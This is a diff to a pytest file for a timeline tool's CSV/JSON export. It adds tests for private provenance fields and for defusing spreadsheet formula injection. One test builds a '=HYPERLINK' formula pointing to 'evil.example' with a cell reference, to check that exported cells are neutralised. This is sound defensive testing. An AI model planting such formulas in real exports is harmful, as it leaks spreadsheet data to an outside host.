@@ -11,7 +11,7 @@ import pytest
 
 from timeline.cli import main
 from timeline.interchange import COLUMNS
-from timeline.model import Precision, Quote, Timeline
+from timeline.model import Event, Precision, Quote, Source, Timeline, When
 from timeline.read import load_any
 from timeline.write import csv as csv_format
 from timeline.write import json as json_format
@@ -19,6 +19,7 @@ from timeline.write import json as json_format
 ROOT = Path(__file__).resolve().parent.parent
 FIXTURE = ROOT / "tests" / "fixtures" / "timelinejs.csv"
 EVENTS = ROOT / "events.toml"
+PROVENANCE = ROOT / "tests" / "fixtures" / "provenance.toml"
 
 
 def _loaded(path: Path) -> Timeline:
@@ -128,14 +129,15 @@ def test_export_has_the_template_columns_in_order() -> None:
     assert benioff[:4] == ["2018", "7", "8", ""]
 
 
+@pytest.mark.parametrize("path", [EVENTS, PROVENANCE], ids=["events", "provenance"])
 def test_events_toml_round_trips_exactly_through_csv(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], path: Path
 ) -> None:
     out = tmp_path / "e.csv"
-    assert main(["export", str(EVENTS), "--to", "csv", "-o", str(out)]) == 0
-    assert main(["export", str(EVENTS), "--to", "json"]) == 0
+    assert main(["export", str(path), "--to", "csv", "--private", "-o", str(out)]) == 0
+    assert main(["export", str(path), "--to", "json", "--private"]) == 0
     before = json.loads(capsys.readouterr().out)
-    assert main(["export", str(out), "--to", "json"]) == 0
+    assert main(["export", str(out), "--to", "json", "--private"]) == 0
     after = json.loads(capsys.readouterr().out)
     for data in (before, after):
         for event in data["events"]:
@@ -204,3 +206,32 @@ def test_an_absurd_year_is_a_located_problem(tmp_path: Path) -> None:
         "'Year' is 1234567890123; years run from -100,000,000,000 to 100,000,000,000"
         in problem.message
     )
+
+
+def test_provenance_comes_back_whole_through_the_sheet(tmp_path: Path) -> None:
+    original = _loaded(PROVENANCE)
+    back = _loaded(_write(tmp_path, csv_format.dumps(original, private=True)))
+    assert [e._replace(file="", line=0) for e in back.events] == [
+        e._replace(file="", line=0) for e in original.events
+    ]
+    public = csv_format.dumps(original)
+    assert "Ask RAICES" not in public and "archived the next morning" not in public
+
+
+def test_formulas_in_provenance_fields_are_defused_and_read_back(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    source = Source(formula, formula, formula, None, formula)
+    event = Event(
+        "e",
+        When(2018, 7, 19, written="2018-07-19"),
+        formula,
+        sources=(source,),
+        quotes=(Quote(formula, formula, None, source, formula),),
+        status="unverified",
+        notes=formula,
+    )
+    text = csv_format.dumps(Timeline("T", (event,)), private=True)
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
+    back = _loaded(_write(tmp_path, text))
+    assert back.events[0]._replace(file="", line=0) == event
